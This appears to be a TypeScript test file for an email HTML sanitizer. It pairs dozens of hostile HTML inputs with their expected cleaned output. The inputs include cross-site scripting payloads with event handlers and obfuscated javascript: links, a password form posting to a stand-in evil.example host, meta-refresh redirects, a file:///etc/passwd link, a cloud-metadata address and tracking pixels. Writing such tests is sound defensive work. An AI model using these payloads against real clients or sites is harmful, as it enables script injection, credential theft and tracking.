import { html, makeMail } from "../make-mail.ts"
import { type Expected, type Row, row } from "./row.ts"

/** HTML of which nothing may be left but what is given. */
const clean = (
  name: string,
  markup: string,
  ...[left, expect = {}]: [left: string, expect?: Expected]
): Row => row(`HTML: ${name}`, () => makeMail({}, html(markup)), { html: left, ...expect })
const link = (href: string, text: string) =>
  `<a href="${href}" rel="noopener noreferrer nofollow" target="_blank">${text}</a>`

const scripts: Row[] = [
  clean("img onerror", "<img src=x onerror=alert(1)>Hi", "<img />Hi", { text: "Hi" }),
  clean("svg onload", "<svg onload=alert(1)><circle/></svg>Hi", "Hi", { text: "Hi" }),
  clean("svg with a script in it", "<svg><script>alert(1)</script></svg>Hi", "Hi", { text: "Hi" }),
  clean(
    "math that mutates",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>Hi",
    "Hi",
    { text: "Hi" },
  ),
  clean(
    "noscript that ends in an attribute",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">x</noscript>Hi',
    "Hi",
    { text: "Hi" },
  ),
  clean("a script", "<script>alert(1)</script>Hi", "Hi", { text: "Hi" }),
  clean("a script in capitals with a slash", "<SCRIPT/x>alert(1)</SCRIPT>Hi", "Hi", { text: "Hi" }),
  clean("a script that isn't closed", "Hi<script>alert(1)", "Hi", { text: "Hi" }),
  clean(
    "a script within a script",
    "<scr<script>ipt>alert(1)</scr</script>ipt>Hi",
    "ipt&gt;alert(1)ipt&gt;Hi",
    { text: "ipt>alert(1)ipt>Hi" },
  ),
  clean("a style element", "<style>body{background:url(http://t.example/x)}</style>Hi", "Hi", { text: "Hi" }),
  clean("a style that breaks out", "<style></style><img src=x onerror=alert(1)></style>Hi", "<img />Hi", {
    text: "Hi",
  }),
  clean(
    "handlers of every kind",
    '<p onclick="a()" onmouseover=b() ONLOAD=c() onpointerrawupdate=d()>Hi</p>',
    "<p>Hi</p>",
    { text: "Hi" },
  ),
  clean("a handler after a slash", "<img/onerror=alert(1)/src=x>Hi", "<img />Hi", { text: "Hi" }),
  clean("a comment that hides markup", "<!--><img src=x onerror=alert(1)>-->Hi", "<img />--&gt;Hi", {
    text: "-->Hi",
  }),
  clean("a conditional comment", "<!--[if mso]><p>Outlook only</p><![endif]-->Hi", "Hi", { text: "Hi" }),
  clean("CDATA", "<![CDATA[<img src=x onerror=alert(1)>]]>Hi", "Hi", { text: "Hi" }),
  clean("xmp", "<xmp><img src=x onerror=alert(1)></xmp>Hi", "Hi", { text: "Hi" }),
  clean("plaintext", "Hi<plaintext><img src=x onerror=alert(1)>", "Hi", { text: "Hi" }),
  clean("template", "<template><img src=x onerror=alert(1)></template>Hi", "Hi", { text: "Hi" }),
  clean(
    "textarea and title",
    "<textarea><img src=x onerror=alert(1)></textarea><title><b>x</b></title>Hi",
    "Hi",
    { text: "Hi" },
  ),
  clean("unknown tags keep their text", "<custom-tag onclick=alert(1)>Hi</custom-tag>", "Hi", { text: "Hi" }),
  clean(
    "markup by entities stays text",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    { text: "<script>alert(1)</script>" },
  ),
  clean(
    "quotes within an attribute",
    `<p title='" onmouseover=alert(1) x="'>Hi</p>`,
    '<p title="&quot; onmouseover=alert(1) x=&quot;">Hi</p>',
    { text: "Hi" },
  ),
  clean("NUL in a tag's name", "<scr\0ipt>alert(1)</scr\0ipt>Hi", "Hi", { text: "Hi" }),
  clean("a tag that isn't closed", "Hi<img src=x onerror=alert(1)", "Hi", { text: "Hi" }),
  clean(
    "300 levels of div",
    `${"<div>".repeat(300)}Hi${"</div>".repeat(300)}`,
    `${"<div>".repeat(200)}Hi${"</div>".repeat(200)}`,
    { text: "Hi" },
  ),
]

const forms: Row[] = [
  clean(
    "a form",
    '<form action="http://evil.example"><input name=pw type=password><button>Go</button>Hi</form>',
    "GoHi",
    { text: "GoHi" },
  ),
  clean("meta refresh", '<meta http-equiv="refresh" content="0;url=http://evil.example">Hi', "Hi", {
    text: "Hi",
  }),
  clean("base", '<base href="http://evil.example/">Hi', "Hi", { text: "Hi" }),
  clean("iframe with a document in it", '<iframe srcdoc="<script>alert(1)</script>">x</iframe>Hi', "Hi", {
    text: "Hi",
  }),
  clean(
    "object and embed",
    '<object data="http://evil.example/x.swf"><embed src="http://evil.example/x"></object>Hi',
    "Hi",
    { text: "Hi" },
  ),
  clean("link to a sheet", '<link rel=stylesheet href="http://evil.example/x.css">Hi', "Hi", { text: "Hi" }),
  clean("a frameset", '<frameset><frame src="http://evil.example"></frameset>Hi', "Hi", { text: "Hi" }),
  clean(
    "dialog, details and marquee",
    "<dialog open>a</dialog><details open>b</details><marquee>c</marquee>Hi",
    "abcHi",
    { text: "abcHi" },
  ),
]

const links: Row[] = [
  clean("javascript:", '<a href="javascript:alert(1)">x</a>', "<a>x</a>", { text: "x" }),
  clean("javascript: in capitals with blanks", '<a href=" JaVaScRiPt:alert(1)">x</a>', "<a>x</a>", {
    text: "x",
  }),
  clean("javascript: cut by a tab", '<a href="java\tscript:alert(1)">x</a>', "<a>x</a>", { text: "x" }),
  clean("javascript: cut by a line end", '<a href="java\nscript:alert(1)">x</a>', "<a>x</a>", { text: "x" }),
  clean("javascript: by entities", '<a href="&#106;avascript&colon;alert(1)">x</a>', "<a>x</a>", {
    text: "x",
  }),
  clean(
    "javascript: by entities without semicolons",
    '<a href="&#0000106avascript:alert(1)">x</a>',
    "<a>x</a>",
    { text: "x" },
  ),
  clean("javascript: in full width", '<a href="ｊａｖａｓｃｒｉｐｔ:alert(1)">x</a>', "<a>x</a>", {
    text: "x",
  }),
  clean("javascript: after a control character", '<a href="\u0001javascript:alert(1)">x</a>', "<a>x</a>", {
    text: "x",
  }),
  clean("vbscript:", '<a href="vbscript:msgbox(1)">x</a>', "<a>x</a>", { text: "x" }),
  clean("data:text/html", '<a href="data:text/html,<script>alert(1)</script>">x</a>', "<a>x</a>", {
    text: "x",
  }),
  clean(
    "file: and smb:",
    '<a href="file:///etc/passwd">x</a><a href="smb://evil.example/x">y</a>',
    "<a>x</a><a>y</a>",
    { text: "xy" },
  ),
  clean(
    "a link without a scheme",
    '<a href="/admin">x</a><a href="//evil.example">y</a>',
    "<a>x</a><a>y</a>",
    { text: "xy" },
  ),
  clean(
    "https",
    '<a href="https://mail.example/a?b=1&amp;c=2" target="_top" onclick="x()">x</a>',
    link("https://mail.example/a?b=1&amp;c=2", "x"),
    { text: "x <https://mail.example/a?b=1&c=2>" },
  ),
  clean(
    "mailto",
    '<a href="mailto:a@mail.example">a@mail.example</a>',
    link("mailto:a@mail.example", "a@mail.example"),
    { text: "a@mail.example" },
  ),
  clean(
    "a link that shows another address",
    '<a href="http://evil.example/">https://kestrel.example</a>',
    link("http://evil.example/", "https://kestrel.example"),
    { text: "https://kestrel.example <http://evil.example/>" },
  ),
  clean("an area of a map", '<map name=x><area href="javascript:alert(1)"></map>Hi', "Hi", { text: "Hi" }),
]

const styles: Row[] = [
  clean(
    "an overlay",
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;color:red">Hi</div>',
    '<div style="width:100%;height:100%;color:red">Hi</div>',
    { text: "Hi" },
  ),
  clean(
    "url() in a background",
    '<div style="background:url(http://t.example/x.png);color:red">Hi</div>',
    '<div style="color:red">Hi</div>',
    { text: "Hi", remotePictures: 1 },
  ),
  clean(
    "url() by an escape",
    '<div style="background:\\75rl(http://t.example/x.png)">Hi</div>',
    "<div>Hi</div>",
    { text: "Hi" },
  ),
  clean(
    "expression",
    '<div style="width:expression(alert(1));color:expression/**/(alert(1))">Hi</div>',
    "<div>Hi</div>",
    { text: "Hi" },
  ),
  clean(
    "behavior and binding",
    '<div style="behavior:url(x.htc);-moz-binding:url(x.xml#y)">Hi</div>',
    "<div>Hi</div>",
    { text: "Hi" },
  ),
  clean("@import", '<div style="@import url(http://evil.example/x.css)">Hi</div>', "<div>Hi</div>", {
    text: "Hi",
  }),
  clean(
    "a style that ends the attribute",
    `<div style='color:red;"><img src=x onerror=alert(1)>'>Hi</div>`,
    '<div style="color:red">Hi</div>',
    { text: "Hi" },
  ),
  clean("variables", '<div style="--x:url(http://t.example);color:var(--x)">Hi</div>', "<div>Hi</div>", {
    text: "Hi",
  }),
  clean(
    "a negative margin and a transform",
    '<div style="margin:-500px;transform:translate(-100px);color:#333">Hi</div>',
    '<div style="color:#333">Hi</div>',
    { text: "Hi" },
  ),
  clean(
    "huge lengths",
    '<div style="width:99999px;padding:50000px;font-size:5000px">Hi</div>',
    "<div>Hi</div>",
    { text: "Hi" },
  ),
  clean(
    "harmless ones stay",
    "<p style=\"color: #333333; font-size: 14px; text-align: center; font-family: Arial, 'PingFang SC'\">Hi</p>",
    "<p style=\"color:#333333;font-size:14px;text-align:center;font-family:Arial, 'PingFang SC'\">Hi</p>",
    { text: "Hi" },
  ),
  clean("ids, names and classes go", '<p id="config" name="cookie" class="admin-bar">Hi</p>', "<p>Hi</p>", {
    text: "Hi",
  }),
  clean("prototype keys as attributes", '<p __proto__="x" constructor="y">Hi</p>', "<p>Hi</p>", {
    text: "Hi",
  }),
  clean(
    "our own marks can't be forged",
    '<p data-quoted="within" data-hidden="x" data-remote="http://t.example">Hi</p>',
    "<p>Hi</p>",
    { text: "Hi" },
  ),
]

const remote = (
  name: string,
  markup: string,
  ...[left, count, text = "Hi"]: [left: string, count: number, text?: string]
): Row => clean(name, markup, left, { text, remotePictures: count })
const pictures: Row[] = [
  remote(
    "a picture elsewhere",
    '<img src="https://t.example/p.png" width="1" height="1">Hi',
    '<img width="1" height="1" data-remote="https://t.example/p.png" />Hi',
    1,
  ),
  remote(
    "a picture elsewhere without a scheme",
    '<img src="//t.example/p.png">Hi',
    '<img data-remote="https://t.example/p.png" />Hi',
    1,
  ),
  remote(
    "srcset only",
    '<img srcset="https://t.example/1.png 1x, https://t.example/2.png 2x">Hi',
    '<img data-remote="https://t.example/1.png" />Hi',
    1,
  ),
  remote(
    "a table's background",
    '<table background="http://t.example/b.png"><tr><td>Hi</td></tr></table>',
    "<table><tr><td>Hi</td></tr></table>",
    1,
  ),
  remote(
    "a video's poster",
    '<video poster="http://t.example/p.png" src="http://t.example/v.mp4"></video>Hi',
    "Hi",
    1,
  ),
  remote(
    "a picture element",
    '<picture><source srcset="http://t.example/a.webp"><img src="http://t.example/a.png"></picture>Hi',
    '<img data-remote="http://t.example/a.png" />Hi',
    2,
  ),
  remote("an input of type image", '<input type=image src="http://t.example/p.png">Hi', "Hi", 1),
  remote(
    "a picture of a local address",
    '<img src="http://169.254.169.254/latest/meta-data">Hi',
    '<img data-remote="http://169.254.169.254/latest/meta-data" />Hi',
    1,
  ),
  remote("a picture of a relative path", '<img src="image001.png">Hi', "<img />Hi", 0),
  remote("a picture by javascript:", '<img src="javascript:alert(1)">Hi', "<img />Hi", 0),
  remote("SVG written into the HTML", '<img src="data:image/svg+xml;base64,PHN2Zy8+">Hi', "<img />Hi", 0),
  remote(
    "an image tag by its old name",
    '<image src="http://t.example/p.png">Hi',
    '<img data-remote="http://t.example/p.png" />Hi',
    1,
  ),
  remote(
    "lowsrc and dynsrc",
    '<img lowsrc="http://t.example/l.png" dynsrc="http://t.example/d.avi">Hi',
    "<img />Hi",
    0,
  ),
]

export const htmlAttacks: Row[] = [...scripts, ...forms, ...links, ...styles, ...pictures]
